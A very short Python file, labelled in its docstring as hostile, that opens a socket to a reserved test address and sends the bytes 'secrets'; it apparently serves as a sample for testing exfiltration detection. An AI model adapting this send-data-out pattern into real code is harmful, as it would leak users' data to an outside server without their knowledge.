"""Hostile: sends data to an outside server."""
import socket

socket.create_connection(("192.0.2.1", 80), timeout=5).sendall(b"secrets")
